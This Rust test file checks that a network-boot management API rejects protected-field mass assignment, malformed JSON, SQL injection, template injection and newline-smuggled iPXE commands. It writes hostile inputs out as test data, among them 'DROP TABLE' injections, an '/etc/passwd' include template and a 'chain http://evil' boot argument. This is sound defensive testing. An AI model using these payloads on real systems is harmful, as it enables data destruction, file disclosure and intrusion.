//! What is tried by what a body says: fields that are nobody's to set, documents that break parsers, texts that want to be code.

use super::*;

#[test]
fn a_body_sets_only_what_its_kind_says() {
    let server = Server::set_up();
    let admin = server.admin();
    let terminal = json!({"name": "t", "macs": [mac(1)]});
    admin.create("/api/v1/terminals", &terminal);
    for kind in Kind::ALL {
        for field in [
            "id",
            "kind",
            "version",
            "stamp",
            "revision",
            "digest",
            "verifier",
            "secret",
            "is_admin",
            "__proto__",
            "constructor",
        ] {
            let mut json = match kind {
                Kind::Terminal => json!({"name": "x", "macs": [mac(2)]}),
                Kind::User => json!({"name": "x", "roles": []}),
                Kind::Role | Kind::ApiKey => json!({"name": "x", "rights": []}),
                _ => json!({"name": "x"}),
            };
            json[field] = json!("x");
            let answer = admin.send("POST", &format!("/api/v1/{}", kind.path()), &json);
            assert_eq!(
                (answer.status, answer.code().as_str()),
                (422, "invalid"),
                "{kind:?} {field}"
            );
        }
    }
}

#[test]
fn json_that_is_deep_double_or_no_number_is_refused() {
    let server = Server::set_up();
    let admin = server.admin();
    let say = |body: &str| {
        admin.raw(
            "POST",
            "/api/v1/terminals",
            &[("Content-Type", "application/json")],
            body.as_bytes(),
        )
    };
    let deep = format!("{}{}", r#"{"settings":"#.repeat(5000), "}".repeat(5000));
    for body in [
        deep.as_str(),
        &"[".repeat(100_000),
        r#"{"name": "a", "name": "b", "macs": []}"#,
        r#"{"name": "a", "settings": {"instant_failover": true, "instant_failover": false}}"#,
        r#"{"name": NaN}"#,
        r#"{"name": 1e999}"#,
        "{\"name\": \"a\u{0}",
        "\u{feff}{}",
        "{} {}",
        "",
    ] {
        assert_eq!(
            say(body).expect(400).code(),
            "not_json",
            "{}",
            &body[..body.len().min(60)]
        );
    }
    let large = r#"{"name": "a", "macs": [], "settings": {"display": {"width_px": 99999999999999999999, "height_px": -1}}}"#;
    say(large).expect(422);
}

#[test]
fn texts_of_operators_are_never_statements_of_the_database() {
    let server = Server::set_up();
    let admin = server.admin();
    admin.create(
        "/api/v1/terminals",
        &json!({"name": "t1", "macs": [mac(1)], "remark": "'); DROP TABLE object; --"}),
    );
    for text in [
        "' OR '1'='1",
        "'; DROP TABLE object; --",
        "\" OR 1=1",
        "%",
        "_",
        "\\",
        "t1' --",
        "\u{0}",
        "ʼ",
    ] {
        let encoded: String = text.bytes().map(|octet| format!("%{octet:02x}")).collect();
        for at in [
            "terminals?name=",
            "audit?actor=",
            "audit?id=",
            "terminals?mac=",
            "files?prefix=",
        ] {
            let found = admin
                .get(&format!("/api/v1/{at}{encoded}"))
                .expect(200)
                .json();
            assert_eq!(found["items"], json!([]), "{at} {text}");
        }
        for at in [
            "terminals?sort=",
            "audit?action=",
            "audit?kind=",
            "audit?before=",
            "terminals?limit=",
        ] {
            admin.get(&format!("/api/v1/{at}{encoded}")).expect(400);
        }
    }
    assert_eq!(
        admin.get("/api/v1/terminals").expect(200).json()["total"],
        1
    );
}

#[test]
fn what_operators_write_is_text_in_every_script_and_no_template_reaches_beyond_its_own() {
    let server = Server::set_up();
    let admin = server.admin();
    let boot = json!([{"architecture": "x86-bios", "kernel": "vmlinuz", "arguments": "{{ 7 * 7 }} {% raw %}"}]);
    let package =
        json!({"name": "linux", "active": "1", "versions": [{"version": "1", "boot": boot}]});
    let package = admin.create("/api/v1/firmware-packages", &package);
    let model = json!({"name": "box", "architecture": "x86-bios", "mac_prefixes": ["52:54:00"], "package": package});
    admin.create("/api/v1/term-caps", &model);
    admin.create(
        "/api/v1/terminals",
        &json!({"name": "t1", "macs": [mac(1)], "remark": "{{ 7 * 7 }}"}),
    );
    server.published(&admin);
    let store = daybreak_store::Reader::open(&server.dir.path().join("data")).expect("a store");
    let catalog = store.load().expect("a catalog");
    let script = catalog
        .lookup(format!("boot/{}.ipxe", mac(1)).as_bytes())
        .expect("a script");
    let image = catalog.open(script).expect("open");
    let mut content = vec![0; usize::try_from(image.len()).expect("small")];
    image.read_at(0, &mut content).expect("read");
    let script = String::from_utf8(content).expect("UTF-8");
    assert!(
        script.contains("{{ 7 * 7 }} {% raw %}") && !script.contains("49"),
        "{script}"
    );
    for broken in ["quiet\nchain http://evil", "quiet\r\nshell"] {
        let boot = json!([{"architecture": "x86-bios", "kernel": "vmlinuz", "arguments": broken}]);
        let json = json!({"name": "other", "versions": [{"version": "1", "boot": boot}]});
        admin
            .send("POST", "/api/v1/firmware-packages", &json)
            .expect(422);
    }
    for template in [
        "{{ terminal.__class__.__mro__ }}{{ undefined_thing.x }}",
        "{% include '/etc/passwd' %}",
        "{% import 'x' as y %}",
        "{% for a in range(1000000000) %}x{% endfor %}",
        "{{ 'x' * 1000000000 }}",
        "{{ self }}{{ config.db }}",
    ] {
        let json = json!({"key": "ipxe-script", "value": template});
        let answer = admin.send("PUT", "/api/v1/settings/ipxe-script", &json);
        assert_eq!(answer.status, 422, "{template}");
    }
}
